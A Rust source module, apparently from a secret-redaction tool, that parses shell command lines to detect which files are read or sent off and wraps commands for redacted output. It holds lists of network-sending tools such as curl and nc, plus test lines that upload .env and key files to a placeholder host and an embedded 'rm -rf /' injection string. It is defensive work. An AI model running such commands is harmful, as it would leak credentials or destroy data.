//! Command lines: what they read and send, and how they are wrapped.
//!
//! This is a reader of words, not a shell: it sees files that are named, not those that a variable or a script names.
//! What it misses is what the redaction of a command's output is for.

use std::path::Path;

/// A file that a command line names, and what the command does with it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Named {
    /// As it stands there, unquoted.
    pub path: String,
    /// What is done with it.
    pub what: What,
}

/// What a command does with a file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum What {
    /// It prints it.
    Reads,
    /// It sends it away, or commits it.
    Sends,
}

/// Commands that print what they are given.
const READERS: [&str; 31] = [
    "cat",
    "bat",
    "less",
    "more",
    "head",
    "tail",
    "nl",
    "tac",
    "rev",
    "od",
    "xxd",
    "hexdump",
    "strings",
    "base64",
    "base32",
    "grep",
    "egrep",
    "rg",
    "awk",
    "sed",
    "cut",
    "sort",
    "uniq",
    "tr",
    "jq",
    "yq",
    "diff",
    "type",
    "gc",
    "get-content",
    "openssl",
];

/// Commands that send what they are given somewhere else.
const SENDERS: [&str; 17] = [
    "curl", "wget", "http", "https", "xh", "scp", "sftp", "rsync", "ftp", "nc", "ncat", "aws",
    "gsutil", "gcloud", "az", "gh", "rclone",
];

/// Words that stand before a command.
const BEFORE: [&str; 9] = [
    "sudo", "env", "command", "exec", "nohup", "time", "nice", "then", "do",
];

/// The files that a command line reads or sends.
pub fn named(line: &str) -> Vec<Named> {
    let mut named = Vec::new();
    for words in commands(line) {
        let (what, rest) = command(&words);
        let mut redirected = false;
        for word in rest {
            if redirected {
                named.push(Named {
                    path: word.clone(),
                    what: what.unwrap_or(What::Reads),
                });
                redirected = false;
            } else if word == "<" {
                redirected = true;
            } else if let Some(what) = what {
                let path = |path: &str| Named {
                    path: path.to_owned(),
                    what,
                };
                named.extend(paths(word).map(path));
            }
        }
    }
    named
}

/// Whether a command of the line sends something somewhere.
pub fn sends(line: &str) -> bool {
    let commands = commands(line);
    commands
        .iter()
        .any(|words| command(words).0 == Some(What::Sends))
}

/// What a command does with the files it is given, and the words behind its name.
fn command(words: &[String]) -> (Option<What>, &[String]) {
    let before = |word: &&String| BEFORE.contains(&&word[..]) || is_assignment(word);
    let skipped = words.iter().take_while(before).count();
    let Some((first, rest)) = words[skipped..].split_first() else {
        return (None, &[]);
    };
    let name = first.rsplit(['/', '\\']).next().unwrap_or_default();
    let name = name.trim_end_matches(".exe").to_ascii_lowercase();
    let commits = |word: &String| matches!(&word[..], "add" | "commit" | "stage");
    match &name[..] {
        "git" if rest.first().is_some_and(commits) => (Some(What::Sends), &rest[1..]),
        other if SENDERS.contains(&other) => (Some(What::Sends), rest),
        other if READERS.contains(&other) => (Some(What::Reads), rest),
        _ => (None, rest),
    }
}

/// The paths that a word may be: itself, and what stands behind `@` or `=`, as in `-Ffile=@path`.
fn paths(word: &str) -> impl Iterator<Item = &str> {
    let behind = |mark: char| word.split_once(mark).map(|(_, rest)| rest);
    [Some(word), behind('@'), behind('=')]
        .into_iter()
        .flatten()
        .filter(|path| !path.is_empty() && !path.starts_with(['-', '@']) && !path.contains("://"))
}

fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
    })
}

/// The words of each simple command of a line, those within substitutions too. Quotes are taken off.
fn commands(line: &str) -> Vec<Vec<String>> {
    let mut reader = Reader::default();
    // The quotes and substitutions that are open.
    let mut open: Vec<char> = Vec::new();
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match (open.last(), c) {
            (Some('\''), '\'') | (Some('"'), '"') => _ = open.pop(),
            (Some('\''), c) => reader.letter(c),
            (_, '\\') => chars.next().into_iter().for_each(|c| reader.letter(c)),
            (last, '`') => {
                match last {
                    Some('`') => _ = open.pop(),
                    _ => open.push('`'),
                }
                reader.end_command();
            }
            (Some('"'), '$') if chars.next_if_eq(&'(').is_some() => {
                open.push('(');
                reader.end_command();
            }
            (Some('"'), c) => reader.letter(c),
            (_, '\'' | '"') => {
                open.push(c);
                reader.word.get_or_insert_default();
            }
            (last, ';' | '|' | '&' | '\n' | '(' | ')' | '{' | '}') => {
                match (last, c) {
                    (Some('('), ')') => _ = open.pop(),
                    (_, '(') => open.push('('),
                    _ => {}
                }
                reader.end_command();
            }
            (_, '<') => {
                reader.end_word();
                reader.words.push("<".to_owned());
            }
            (_, '>') => {
                // What follows is written, not read: as an option it is passed over.
                reader.end_word();
                reader.word = Some("->".to_owned());
                while chars.next_if(|c| matches!(c, '>' | ' ' | '&')).is_some() {}
            }
            (_, c) if c.is_whitespace() => reader.end_word(),
            (_, c) => reader.letter(c),
        }
    }
    reader.end_command();
    reader.commands
}

/// The words read so far.
#[derive(Default)]
struct Reader {
    commands: Vec<Vec<String>>,
    words: Vec<String>,
    word: Option<String>,
}

impl Reader {
    fn letter(&mut self, c: char) {
        self.word.get_or_insert_default().push(c);
    }

    fn end_word(&mut self) {
        self.words.extend(self.word.take());
    }

    fn end_command(&mut self) {
        self.end_word();
        if !self.words.is_empty() {
            self.commands.push(std::mem::take(&mut self.words));
        }
    }
}

/// A command line that runs `line` in the user's shell with both outputs redacted, and `options` for `keysieve exec`;
/// `None` where it is one already, or where a part of it cannot be quoted (a NUL).
pub fn wrapped(program: &Path, options: &[String], line: &str) -> Option<String> {
    // Nothing but a line that is the same to the last byte is one already: what begins like one may go on with a
    // command of its own.
    let inner = shlex::split(line).and_then(|mut words| words.pop());
    if inner.is_some_and(|inner| wrap(program, options, &inner).as_deref() == Some(line)) {
        return None;
    }
    wrap(program, options, line)
}

fn wrap(program: &Path, options: &[String], line: &str) -> Option<String> {
    let head = [program.to_str()?, "exec", "--known-from-env"];
    let words = head.into_iter().chain(options.iter().map(String::as_str));
    let words = shlex::try_join(words).ok()?;
    let line = shlex::try_quote(line).ok()?;
    Some(format!("{words} -- \"${{SHELL:-sh}}\" -c {line}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sees_which_files_a_command_reads_or_sends() {
        let (reads, sends) = (What::Reads, What::Sends);
        let cases: [(&str, &[(&str, What)]); 16] = [
            ("cat .env", &[(".env", reads)]),
            (
                "cd x && sudo /bin/cat 'a b/.env' | wc",
                &[("a b/.env", reads)],
            ),
            ("FOO=1 env head -n1 \"id_rsa\"", &[("id_rsa", reads)]),
            ("while read l; do echo $l; done < .env", &[(".env", reads)]),
            ("wc <.env", &[(".env", reads)]),
            ("echo \"$(cat .env)\"", &[(".env", reads)]),
            ("echo `cat .env`", &[(".env", reads)]),
            ("curl -d @.env https://h.example/x", &[(".env", sends)]),
            (
                "curl --data-binary=@k.pem -Ffile=@.env h",
                &[("k.pem", sends), (".env", sends), ("h", sends)],
            ),
            ("git add .env", &[(".env", sends)]),
            ("git status .env", &[]),
            ("echo .env >> .gitignore", &[]),
            ("cat > .env", &[]),
            ("ls -la .env; test -f .env", &[]),
            ("cp .env.example .env", &[]),
            ("", &[]),
        ];
        for (line, want) in cases {
            let got = named(line);
            let mut got: Vec<(String, What)> = got.into_iter().map(|n| (n.path, n.what)).collect();
            let mut want: Vec<(String, What)> = want
                .iter()
                .map(|(path, what)| ((*path).to_owned(), *what))
                .collect();
            let key = |(path, _): &(String, What)| path.clone();
            got.sort_by_key(key);
            want.sort_by_key(key);
            assert_eq!(got, want, "{line}");
        }
    }

    #[test]
    fn a_wrapped_line_is_one_word_for_the_shell() {
        let program = Path::new("/opt/my tools/keysieve");
        for line in [
            "env",
            "echo 'it''s' \"$HOME\" `id` \\",
            "a\nb",
            "echo '; rm -rf /'",
        ] {
            let options = ["--session", "a session"].map(str::to_owned);
            let wrapped = wrapped(program, &options, line).expect("it can be quoted");
            let words = shlex::split(&wrapped).expect("it is well quoted");
            assert_eq!(words[0], "/opt/my tools/keysieve");
            assert_eq!(words[1..4], ["exec", "--known-from-env", "--session"]);
            assert_eq!(words[4..6], ["a session", "--"]);
            assert_eq!(words.last().map(String::as_str), Some(line));
            assert_eq!(
                super::wrapped(program, &options, &wrapped),
                None,
                "never twice"
            );
            for more in ["; cat key", " && cat key", "\ncat key", " | cat key -"] {
                let longer = format!("{wrapped}{more}");
                let whole = super::wrapped(program, &options, &longer).expect("it is another one");
                let words = shlex::split(&whole).expect("it is well quoted");
                assert_eq!(words.last(), Some(&longer), "all of it is wrapped");
            }
        }
        assert_eq!(wrapped(program, &[], "a\0b"), None);
    }
}
